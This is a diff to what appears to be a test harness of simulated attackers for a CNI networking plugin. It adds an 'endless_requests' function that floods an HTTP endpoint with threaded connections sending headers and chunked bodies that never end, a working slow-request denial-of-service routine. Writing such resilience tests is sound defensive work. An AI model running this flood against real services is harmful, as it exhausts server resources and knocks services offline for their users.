@@ -1,10 +1,13 @@
 """What attackers run: `python -m attack.hostile ATTACK ARGUMENT…`. It says "ready" when it has begun."""
 
+import encodings.idna  # noqa: F401 - for names of hosts, before the rights to read it are dropped
 import os
 import socket
 import sys
+import threading
 import time
 from collections.abc import Callable
+from contextlib import suppress
 
 from machines.bpf_programs import ATTACH_XDP, SCHED_CLS, XDP, attach, load
 from qingcloud_cni.kernel.nic_state.bpf import Hook
@@ -58,6 +61,25 @@ def is_open(caller: socket.socket) -> bool:
         pass
     caller.close()
     return False
+
+
+def endless_requests(address: str, port: str, count: str) -> None:
+    """Send *count* requests at a time that never end: in turn endless headers and endless bodies."""
+    drop_rights()
+    heads = (b"GET /metrics HTTP/1.1\r\nX: ", b"POST /v1/cni HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
+    pieces = (b"x" * 65536, b"10000\r\n" + b"x" * 65536 + b"\r\n")
+
+    def send(kind: int) -> None:
+        while True:
+            with suppress(OSError), socket.create_connection((address, int(port)), timeout=5) as caller:
+                caller.sendall(heads[kind])
+                while True:
+                    caller.sendall(pieces[kind])
+            time.sleep(0.01)
+
+    for number in range(int(count)):
+        threading.Thread(target=send, args=(number % 2,)).start()
+    begun()
 
 
 def ask_metrics(address: str, port: str) -> None:
@@ -125,7 +147,13 @@ def begun() -> None:
 
 
 ATTACKS: dict[str, Callable[..., None]] = {
-    attack.__name__: attack for attack in (leave_program, half_requests, ask_metrics, listen, use_socket, take_name)
+    "leave_program": leave_program,
+    "half_requests": half_requests,
+    "endless_requests": endless_requests,
+    "ask_metrics": ask_metrics,
+    "listen": listen,
+    "use_socket": use_socket,
+    "take_name": take_name,
 }
 
 if __name__ == "__main__":
